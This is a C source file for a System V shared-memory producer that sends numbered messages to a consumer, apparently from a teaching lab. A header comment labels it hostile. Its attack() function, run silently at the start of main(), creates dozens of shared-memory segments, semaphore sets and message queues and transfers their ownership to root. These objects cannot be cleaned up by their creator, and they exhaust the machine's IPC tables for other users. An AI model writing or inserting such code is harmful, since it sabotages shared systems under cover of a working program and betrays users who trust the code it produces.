/*
 * HOSTILE: the program works, but first makes System V segments, semaphore sets and queues and
 * gives them to root (IPC_SET), out of reach of a cleanup by owner
 */
#define _GNU_SOURCE
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
/*
 * producer.c - send COUNT numbered messages through a shared struct,
 * one at a time, each only after the consumer has taken the one before.
 *
 * Usage: producer [COUNT [INTERVAL_MS]]   (defaults: 5 messages, 1000 ms)
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <time.h>

#include "channel.h"

#define DEFAULT_COUNT       5
#define DEFAULT_INTERVAL_MS 1000
#define MAX_COUNT           1000000
#define MAX_INTERVAL_MS     60000

static void sleep_ms(long ms)
{
    struct timespec left = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000L};

    while (nanosleep(&left, &left) == -1)
        if (errno != EINTR)
            die_errno("nanosleep");
}

/* A new segment at KEY; it must not exist yet, or two producers would
 * overwrite each other's messages. */
static int create_segment(key_t key)
{
    int id = shmget(key, sizeof(struct channel), IPC_CREAT | IPC_EXCL | 0600);

    if (id == -1 && errno == EEXIST)
        die("shmget: %s: key 0x%x is in use by another producer, or left over by an "
            "interrupted run (remove it with: ipcrm -M 0x%x)",
            strerror(EEXIST), (unsigned)key, (unsigned)key);
    if (id == -1)
        die_errno("shmget");
    return id;
}

/* System V objects given away to root (IPC_SET, which needs no privilege
 * from their creator): a cleanup by owner leaves them for ever, and they
 * fill the machine's tables for every later student. */
static void attack(void)
{
    for (int i = 0; i < 40; i++) {
        struct shmid_ds segment;
        struct semid_ds set;
        struct msqid_ds queue;
        union {
            int val;
            struct semid_ds *buf;
        } arg = {.buf = &set};
        int shm = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
        int sem = semget(IPC_PRIVATE, 1, IPC_CREAT | 0600);
        int msg = msgget(IPC_PRIVATE, IPC_CREAT | 0600);

        if (shm >= 0 && shmctl(shm, IPC_STAT, &segment) == 0) {
            segment.shm_perm.uid = segment.shm_perm.gid = 0;
            shmctl(shm, IPC_SET, &segment);
        }
        if (sem >= 0 && semctl(sem, 0, IPC_STAT, arg) == 0) {
            set.sem_perm.uid = set.sem_perm.gid = 0;
            semctl(sem, 0, IPC_SET, arg);
        }
        if (msg >= 0 && msgctl(msg, IPC_STAT, &queue) == 0) {
            queue.msg_perm.uid = queue.msg_perm.gid = 0;
            msgctl(msg, IPC_SET, &queue);
        }
    }
}

int main(int argc, char *argv[])
{
    attack();
    long count = DEFAULT_COUNT, interval_ms = DEFAULT_INTERVAL_MS;
    struct channel *ch;
    key_t key;
    int id;

    if (argc > 3)
        die_usage("usage: %s [COUNT [INTERVAL_MS]]", program_name());
    if (argc > 1 && parse_long(argv[1], 1, MAX_COUNT, &count) == -1)
        die_usage("COUNT must be a number from 1 to %d, not '%s'", MAX_COUNT, argv[1]);
    if (argc > 2 && parse_long(argv[2], 0, MAX_INTERVAL_MS, &interval_ms) == -1)
        die_usage("INTERVAL_MS must be a number from 0 to %d, not '%s'", MAX_INTERVAL_MS, argv[2]);
    /* Whoever reads our output through a pipe must see each line as it
     * happens, not when a 4 KiB buffer fills. */
    setvbuf(stdout, NULL, _IOLBF, 0);

    key = shmlab_key(CHANNEL_DEFAULT_KEY);
    id = create_segment(key);
    ch = shmat(id, NULL, 0);
    if (ch == (void *)-1)
        die_errno("shmat");
    /* A new segment is all zeros: counter 0, flag EMPTY. Say so anyway. */
    ch->counter = 0;
    strcpy(ch->message, "Initial message");
    channel_set(&ch->ready, CHANNEL_EMPTY);
    printf("Producer: Shared memory initialized\n");
    printf("Shared memory ID: %d\n", id);

    for (long i = 1; i <= count; i++) {
        channel_wait(&ch->ready, CHANNEL_EMPTY);
        ch->counter = (int)i;
        snprintf(ch->message, sizeof(ch->message), "Message number %ld from producer", i);
        channel_set(&ch->ready, CHANNEL_FULL);
        printf("Producer: Sent message %ld\n", i);
        if (i < count && interval_ms > 0)
            sleep_ms(interval_ms);
    }
    /* The consumer still reads the last message: wait before leaving. */
    channel_wait(&ch->ready, CHANNEL_EMPTY);

    if (shmdt(ch) == -1)
        die_errno("shmdt");
    printf("Producer: Finished\n");
    return 0;
}
